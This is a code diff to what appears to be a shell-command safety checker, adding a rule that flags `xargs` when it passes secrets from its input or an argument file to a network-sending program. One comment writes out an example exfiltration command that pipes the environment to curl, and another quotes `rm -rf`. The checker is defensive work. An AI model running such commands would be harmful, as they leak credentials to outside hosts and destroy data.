@@ -1,8 +1,9 @@
 //! `xargs`: the command it runs, with the items of its input as arguments.
 
-use super::super::args::{first_operand, has_long, opt_value};
-use super::super::shell::{Input, Sh};
+use super::super::args::{NETWORK_SENDERS, SECRET_INPUT, first_operand, has_long, opt_value};
+use super::super::shell::{Input, Sh, program_name};
 use super::{leading_short, run_argv};
+use crate::Effect::Admin;
 
 /// `xargs CMD`: CMD runs with the items of xargs' input as its arguments, in place of the
 /// `-I` placeholder or appended. A literal input gives the items (`echo 'rm -rf x' | xargs
@@ -65,6 +66,23 @@ pub(super) fn xargs(sh: &mut Sh, args: &[String], stdin: &Input, via: &str) -> I
         Input::Literal(_) | Input::Unknown(_) | Input::None => vec!["$".to_string()],
     };
     let out = Input::Unknown("the output of `xargs`".into());
+    // `env | xargs -I{} curl 'https://host/?d={}'`: a secret on the input is sent as
+    // arguments (also one read from `-a FILE`).
+    let carried = match stdin {
+        Input::Unknown(what) if what.starts_with(SECRET_INPUT) => Some(what.clone()),
+        _ => opt_value(flags, &["-a"], &["--arg-file"])
+            .and_then(|f| sh.secret_file(f))
+            .map(|f| format!("the secret `{f}`")),
+    };
+    if let Some(what) = carried
+        && let Some(program) = rest.first()
+        && NETWORK_SENDERS.contains(&program_name(program))
+    {
+        sh.add(
+            Admin,
+            format!("`xargs {program}` sends {what} over the network as its arguments"),
+        );
+    }
     match placeholder {
         Some(p) => {
             for item in items.iter().take(16) {
